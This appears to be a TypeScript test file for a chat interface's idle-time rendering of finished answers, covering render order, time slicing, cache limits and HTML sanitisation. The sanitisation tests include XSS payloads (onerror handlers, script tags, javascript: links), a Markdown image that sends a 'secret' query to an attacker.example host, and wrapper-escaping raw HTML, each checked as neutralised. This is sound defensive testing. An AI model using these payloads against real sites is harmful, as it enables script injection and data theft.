// @vitest-environment jsdom
import hljs from 'highlight.js/lib/core';
import { act } from 'react';
import { describe, expect, it, vi } from 'vitest';
import { markdownHtml, parsedHtml } from './markdown-html';
import { reactRootPerTest } from '../react-root-per-test';
import { AnswerBuild } from '@/components/chat/answer-build';
import { AnswerMarkdown } from '@/components/chat/AnswerMarkdown';
import { END_ROWS, fillOrder, IdleFill, nearestFirst, SLICE_MS, type Build, type FillDeadline, type FillView, type IdleScheduler } from '@/components/chat/idle-fill';
import { RenderedAnswers, renderedAnswers } from '@/components/chat/rendered-answers';
import type { ChatEntry } from '@/lib/chat/chat-store';

(globalThis as unknown as { IS_REACT_ACT_ENVIRONMENT: boolean }).IS_REACT_ACT_ENVIRONMENT = true;

describe('nearestFirst (the order the idle fill renders answers in)', () => {
  const order = (view: FillView, count: number) => [...nearestFirst(view, count)];

  it('the rows in view, then two ahead of the scroll for each one behind it', () => {
    expect(order({ start: 10, end: 11, direction: 'forward' }, 20)).toEqual([10, 11, 12, 13, 9, 14, 15, 8, 16, 17, 7, 18, 19, 6, 5, 4, 3, 2, 1, 0]);
    expect(order({ start: 10, end: 11, direction: 'backward' }, 16)).toEqual([10, 11, 9, 8, 12, 7, 6, 13, 5, 4, 14, 3, 2, 15, 1, 0]);
  });

  it('alike on both sides when the log has not moved (opened at its end: everything above)', () => {
    expect(order({ start: 4, end: 4, direction: null }, 8)).toEqual([4, 3, 5, 2, 6, 1, 7, 0]);
    expect(order({ start: 7, end: 9, direction: null }, 10)).toEqual([7, 8, 9, 6, 5, 4, 3, 2, 1, 0]);
  });

  it('every row once, with a view outside the rows or none to fill', () => {
    expect(order({ start: 5, end: 40, direction: 'forward' }, 8).sort()).toEqual([0, 1, 2, 3, 4, 5, 6, 7]);
    expect(order({ start: 0, end: 0, direction: null }, 0)).toEqual([]);
  });
});

describe('fillOrder (nearest the view, and the ends of the conversation early)', () => {
  const order = (view: FillView, count: number) => [...fillOrder(view, count)];

  it('the rows in view, then two near the view for each one from the ends, top and bottom alternately', () => {
    expect(order({ start: 30, end: 31, direction: null }, 40).slice(0, 17)).toEqual([30, 31, 29, 32, 0, 28, 33, 39, 27, 34, 1, 26, 35, 38, 25, 36, 2]);
    expect(order({ start: 30, end: 31, direction: 'forward' }, 40).slice(0, 8)).toEqual([30, 31, 32, 33, 0, 29, 34, 39]);
  });

  it('the ends’ END_ROWS rows only; past them, the view’s order alone, and every row once', () => {
    const rows = order({ start: 500, end: 502, direction: 'forward' }, 1000);
    expect([...rows].sort((a, b) => a - b)).toEqual([...Array(1000).keys()]);
    const ends = (row: number) => row < END_ROWS || row >= 1000 - END_ROWS;
    // Every end row within the first few dozen, and nothing else out of nearestFirst's order.
    expect(rows.slice(0, 3 * 2 * END_ROWS + 3).filter(ends).sort((a, b) => a - b)).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 992, 993, 994, 995, 996, 997, 998, 999]);
    expect(rows.filter((row) => !ends(row))).toEqual([...nearestFirst({ start: 500, end: 502, direction: 'forward' }, 1000)].filter((row) => !ends(row)));
  });

  it('a view at an end, or rows fewer than the ends hold: each row once, those in view first', () => {
    expect(order({ start: 0, end: 1, direction: 'backward' }, 12)).toEqual([0, 1, 2, 3, 11, 4, 5, 10, 6, 7, 9, 8]);
    expect(order({ start: 2, end: 2, direction: null }, 3)).toEqual([2, 1, 0]);
    expect(order({ start: 0, end: 0, direction: null }, 0)).toEqual([]);
  });
});

/**
 * requestIdleCallback on a fake clock: `period(ms)` runs the idle callbacks pending as one idle
 * period of `ms`, and the slices they post while it lasts. A fake build's step costs `stepMs`.
 */
function fakeIdle() {
  let clock = 0;
  let next = 1;
  const callbacks = new Map<number, (deadline: FillDeadline) => void>();
  const posted: (() => void)[] = [];
  const idle: IdleScheduler = {
    request: (work) => (callbacks.set(next, work), next++),
    cancel: (handle) => void callbacks.delete(handle),
    post: (work) => void posted.push(work),
  };
  return {
    idle,
    now: () => clock,
    advance: (ms: number) => void (clock += ms),
    pending: () => callbacks.size + posted.length,
    /** `slices: false`: the slices posted are left queued, the period not over (`posted()` runs them in it). */
    period(ms: number, slices = true) {
      const end = clock + ms;
      const deadline = { timeRemaining: () => Math.max(0, end - clock) };
      const due = [...callbacks.values()];
      callbacks.clear();
      for (const work of due) work(deadline);
      if (!slices) return; // still inside the period
      this.posted();
      clock = Math.max(clock, end);
    },
    posted() {
      while (posted.length) posted.shift()!();
    },
  };
}

type Entry = Pick<ChatEntry, 'id' | 'role' | 'content' | 'status'>;
/** Questions and answers alternately: answer i is `a${i}`, at index 2i + 1, `chars` characters. */
function conversation(answers: number, chars = 10): Entry[] {
  const entries: Entry[] = [];
  for (let i = 0; i < answers; i++) {
    entries.push({ id: `q${i}`, role: 'user', content: `question ${i}`, status: 'done' });
    entries.push({ id: `a${i}`, role: 'assistant', content: String(i).padEnd(chars, '.'), status: 'done' });
  }
  return entries;
}

/** A fill over `entries` with fake builds of `steps` steps, each `stepMs` on the fake clock. */
function fillOf(entries: () => readonly Entry[], view: FillView, kept: RenderedAnswers, { steps = 3, stepMs = 1 } = {}) {
  const fake = fakeIdle();
  const built: string[] = [];
  const build = (text: string): Build => {
    built.push(text);
    let left = steps;
    const nodes = document.createDocumentFragment();
    return {
      nodes,
      step: () => {
        fake.advance(stepMs);
        if (--left > 0) return false;
        nodes.append(Object.assign(document.createElement('p'), { textContent: text }));
        return true;
      },
    };
  };
  const keep = vi.spyOn(kept, 'keep');
  const fill = new IdleFill({ entries, view: () => view, kept, build, idle: fake.idle, now: fake.now });
  return { fill, fake, built, kept: () => keep.mock.calls.map(([id]) => id) };
}

describe('IdleFill (finished answers rendered ahead of the view in idle time)', () => {
  it('fills the answers nearest the view first, in idle time only, and keeps what it rendered', () => {
    const entries = conversation(6);
    const { fill, fake, kept, built } = fillOf(() => entries, { start: 11, end: 11, direction: null }, new RenderedAnswers(1_000));
    fill.start();
    expect(built).toEqual([]); // nothing before the panel is idle
    fake.period(50);
    // a0, at the top of the conversation, early (fillOrder).
    expect(kept()).toEqual(['a5', 'a4', 'a3', 'a0', 'a2', 'a1']);
    expect(fill.running).toBe(false); // done: no more idle callbacks asked for
    expect(fake.pending()).toBe(0);
  });

  it('never takes an idle period past its deadline, and works in slices of at most SLICE_MS', () => {
    const entries = conversation(20);
    const { fill, fake, kept, built } = fillOf(() => entries, { start: 39, end: 39, direction: null }, new RenderedAnswers(10_000), { steps: 4, stepMs: 1 });
    fill.start();
    fake.period(0.5); // less than a step: none taken
    expect(built).toEqual([]);
    fake.period(8); // 8 steps: two answers
    expect(kept()).toEqual(['a19', 'a18']);
    // A slice posts the next after SLICE_MS: the slices of one 50 ms period hold 50 steps (12 answers).
    const posted = vi.spyOn(fake.idle, 'post');
    fake.period(50);
    expect(kept()).toHaveLength(2 + 12);
    expect(posted.mock.calls.length).toBeGreaterThanOrEqual(Math.floor(50 / SLICE_MS) - 1);
  });

  it('opened at its end, fills the answers at the top among the first, so Home lands on kept answers', () => {
    const entries = conversation(100);
    const kept = new RenderedAnswers(100_000);
    const { fill, fake, kept: keptIds } = fillOf(() => entries, { start: 199, end: 199, direction: null }, kept, { steps: 1 });
    fill.start();
    fake.period(18); // 18 answers' worth of idle time, of 100
    expect(keptIds()).toHaveLength(18);
    // The four answers Home lands on (rows 0 to 7) are kept; the middle of the conversation is not.
    for (const id of ['a0', 'a1', 'a2', 'a3']) expect(kept.has(id, entries.find((e) => e.id === id)!.content)).toBe(true);
    expect(keptIds()).not.toContain('a50');
    expect(keptIds().slice(0, 2)).toEqual(['a99', 'a98']); // the view's own first
  });

  it('follows the view: after a scroll, the answers near the new view come next', () => {
    const entries = conversation(10);
    const view: FillView = { start: 19, end: 19, direction: null };
    const { fill, fake, kept } = fillOf(() => entries, view, new RenderedAnswers(1_000), { steps: 2 });
    fill.start();
    fake.period(4);
    expect(kept()).toEqual(['a9', 'a8']);
    Object.assign(view, { start: 0, end: 1, direction: 'forward' });
    fake.period(4);
    expect(kept()).toEqual(['a9', 'a8', 'a0', 'a1']);
  });

  it('stops at the bound: the nearest that fit are kept, none pushed out, the rest left', () => {
    const entries = conversation(6, 100);
    const kept = new RenderedAnswers(350);
    const earlier = document.createElement('div');
    earlier.innerHTML = '<p>kept before</p>';
    kept.keep('other', 'x'.repeat(100), earlier);
    const { fill, fake, kept: keptIds, built } = fillOf(() => entries, { start: 11, end: 11, direction: null }, kept);
    fill.start();
    fake.period(50);
    expect(keptIds()).toEqual(['a5', 'a4']);
    expect(built).toHaveLength(2);
    expect(kept.has('other', 'x'.repeat(100))).toBe(true);
    expect(kept.chars).toBe(300);
    expect(fill.running).toBe(false);
  });

  it('skips an answer longer than the whole bound instead of stopping at it', () => {
    const entries = conversation(3, 100);
    entries[5] = { ...entries[5]!, content: 'y'.repeat(500) };
    const { fill, fake, kept } = fillOf(() => entries, { start: 5, end: 5, direction: null }, new RenderedAnswers(400));
    fill.start();
    fake.period(50);
    expect(kept()).toEqual(['a1', 'a0']);
  });

  it('never renders a streaming answer, and does not keep one whose text changed while it was rendered', () => {
    let entries = conversation(3);
    entries[5] = { ...entries[5]!, content: 'still streaming', status: 'streaming' };
    const cache = new RenderedAnswers(1_000);
    const { fill, fake, kept, built } = fillOf(() => entries, { start: 5, end: 5, direction: null }, cache, { steps: 4 });
    fill.start();
    fake.period(2); // half of a1's build
    expect(built).toEqual(['1.........']);
    entries = entries.map((e) => (e.id === 'a1' ? { ...e, content: 'regenerated' } : e));
    fake.period(50);
    expect(built).not.toContain('still streaming');
    // The old text's build finished, was not kept, and the new text was rendered and kept.
    expect(built).toEqual(['1.........', 'regenerated', '0.........']);
    expect(kept()).toEqual(['a1', 'a0']);
    expect(cache.has('a1', 'regenerated')).toBe(true);
    expect(cache.has('a1', '1.........')).toBe(false);
    expect(cache.has('a2', 'still streaming')).toBe(false);
  });

  it('stop() cancels it (another conversation, a stream starting): nothing more is rendered or kept', () => {
    const entries = conversation(10);
    const { fill, fake, kept, built } = fillOf(() => entries, { start: 19, end: 19, direction: null }, new RenderedAnswers(1_000), { steps: 4 });
    fill.start();
    fake.period(50, false); // one slice done, the next posted, the idle period still on
    const before = kept().length;
    expect(before).toBe(1);
    expect(fake.pending()).toBe(1);
    fill.stop();
    fake.posted();
    fake.period(50);
    expect(kept()).toHaveLength(before);
    expect(built).toHaveLength(before + 1); // the one it was rendering, dropped
    expect(fill.running).toBe(false);
    expect(fake.pending()).toBe(0);
  });
});

/** What Markdown renders inside its `div.markdown`: what AnswerBuild's nodes must be. */
const markdownInside = (text: string) => markdownHtml(text, { inside: true });
function built(text: string): { html: string; steps: number } {
  const build = new AnswerBuild(text);
  let steps = 1;
  while (!build.step()) steps++;
  const div = document.createElement('div');
  div.append(build.nodes);
  return { html: div.innerHTML, steps };
}

const ANSWER = 'Here is the fix:\n\n```ts\nconst answer = 42;\nexport default answer;\n```\n\nAnd **that** is all.\n\n| a | b |\n| - | - |\n| 1 | 2 |';

describe('AnswerBuild (an answer rendered outside React, for the idle fill)', () => {
  it('renders the nodes Markdown renders for the same text', () => {
    expect(built(ANSWER).html).toBe(markdownInside(ANSWER));
  });

  it('the same for hostile HTML: sanitised alike, nothing of it left to run', () => {
    const hostile = 'Now <img src="x" onerror="alert(1)"> and <script>alert(2)</script> **bold**\n\n<a href="javascript:alert(3)">link</a>';
    const { html } = built(hostile);
    expect(html).toBe(markdownInside(hostile));
    expect(html).not.toMatch(/onerror|<script|javascript:/);
  });

  it('groups 40 blocks by 32, as Markdown does', () => {
    const text = Array.from({ length: 40 }, (_, i) => `Paragraph ${i}.`).join('\n\n');
    const { html, steps } = built(text);
    expect(html).toBe(markdownInside(text));
    expect(html.match(/class="md-group"/g)).toHaveLength(2);
    expect(steps).toBe(40);
  });

  it('Markdown images, javascript: links and raw HTML among ordinary blocks: the nodes Markdown renders', () => {
    const text = [
      '## Heading',
      '![chart](https://attacker.example/c.png?q=secret) and [x](javascript:alert(1))',
      'Raw <img src=x onerror="alert(1)"> and <script>alert(2)</script> in a paragraph',
      // Code inside a quote: a block of Markdown whose code block gets a copy button.
      '> quoted code:\n>\n> ```js\n> let a = 1;\n> ```',
      '| a | b |\n| - | - |\n| 1 | 2 |',
      '<a href="javascript:alert(3)">raw link</a>',
      'The end.',
    ].join('\n\n');
    const { html } = built(text);
    expect(html).toBe(markdownInside(text));
    expect(html).toContain('<blockquote>');
    expect(html).toContain('class="copy"');
    expect(html).not.toMatch(/onerror|<script|javascript:|<img/);
  });

  // The batch's wrapper check (sanitize-answer.ts sanitizeMarkdownBlocks) does not catch raw HTML
  // that closes its wrapper and opens as many as it closes: here the batch keeps three wrappers but
  // moves "b" and the last paragraph into one block. Only Markdown's own markup may go in the batch.
  it('sanitises a block of raw HTML alone, so it cannot move its nodes or the next block’s across the batch’s wrappers', () => {
    const text = ['a', '</blockquote><blockquote><p>b</p><blockquote>', 'The end.'].join('\n\n');
    expect(built(text).html).toBe(markdownInside(text));
  });

  it('sanitises the blocks of an answer in one call, not one per block', () => {
    const text = Array.from({ length: 40 }, (_, i) => `Paragraph ${i} with **bold** and [a link](https://example.com/${i}).`).join('\n\n');
    const expected = markdownInside(text);
    // DOMPurify parses each call's HTML into a document of its own.
    const parse = vi.spyOn(DOMParser.prototype, 'parseFromString');
    expect(built(text).html).toBe(expected);
    expect(parse).toHaveBeenCalledTimes(1);
    parse.mockRestore();
  });

  it('a long answer in several calls, none sanitising much more than 8,000 characters of HTML', () => {
    const text = Array.from({ length: 300 }, (_, i) => `Paragraph ${i}, long enough to fill a line or two of the panel, with *emphasis* in it.`).join('\n\n');
    const expected = markdownInside(text);
    const parse = vi.spyOn(DOMParser.prototype, 'parseFromString');
    expect(built(text).html).toBe(expected);
    const sizes = parse.mock.calls.map(([html]) => html.length);
    // ~30,000 characters of HTML; each call's also has a wrapper per block (sanitize-answer.ts).
    expect(sizes.length).toBeGreaterThanOrEqual(3);
    for (const size of sizes) expect(size).toBeLessThan(8_000 * 1.5);
    parse.mockRestore();
  });

  it('a long code block in several steps, ending as highlighting it whole does', () => {
    const code = Array.from({ length: 200 }, (_, i) => `const value${i} = "line ${i}"; // comment ${i}`).join('\n');
    const text = `Intro.\n\n\`\`\`js\n${code}\n\`\`\`\n\nOutro.`;
    const { html, steps } = built(text);
    expect(html).toBe(markdownInside(text));
    expect(steps).toBeGreaterThan(4);
  });
});

let container: HTMLDivElement;
reactRootPerTest((c, root) => {
  container = c;
  mount = (id, text) => act(() => root.render(<AnswerMarkdown id={id} text={text} done />));
});
let mount: (id: string, text: string) => void;

describe('the idle fill and a windowed log’s answers', () => {
  it('an answer the fill kept mounts from its kept HTML, without highlighting it again', () => {
    const build = new AnswerBuild(ANSWER);
    while (!build.step());
    renderedAnswers.keep('filled-1', ANSWER, build.nodes);
    const highlight = vi.spyOn(hljs, 'highlight');
    mount('filled-1', ANSWER);
    expect(highlight).not.toHaveBeenCalled();
    expect(container.firstElementChild!.innerHTML).toBe(markdownInside(ANSWER));
    // What was kept is what Markdown renders, and the fill's own nodes were not taken for it.
    expect(parsedHtml(renderedAnswers.get('filled-1', ANSWER)!)).toBe(markdownInside(ANSWER));
    expect(build.nodes.querySelector('code')!.textContent).toContain('const');
    highlight.mockRestore();
  });
});
